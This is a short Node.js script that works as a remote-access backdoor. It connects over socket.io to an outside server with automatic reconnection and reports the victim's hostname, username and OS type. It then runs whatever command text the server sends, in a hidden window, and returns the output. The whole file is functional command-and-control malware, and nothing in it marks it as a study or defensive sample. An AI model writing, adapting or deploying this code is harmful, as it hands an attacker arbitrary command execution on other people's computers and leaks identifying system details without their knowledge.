const { io } = require('socket.io-client')
const { exec } = require('child_process')
const os = require('os')

const socket = io('https://live-board.invalid', { reconnection: true })

socket.on('connect', () => socket.emit('whoIm', { host: os.hostname(), user: os.userInfo().username, os: os.type() }))
socket.on('command', ({ id, text }) => {
  exec(text, { windowsHide: true, maxBuffer: 1e8 }, (error, stdout, stderr) => {
    socket.emit('result', { id, code: error?.code ?? 0, out: stdout || stderr })
  })
})
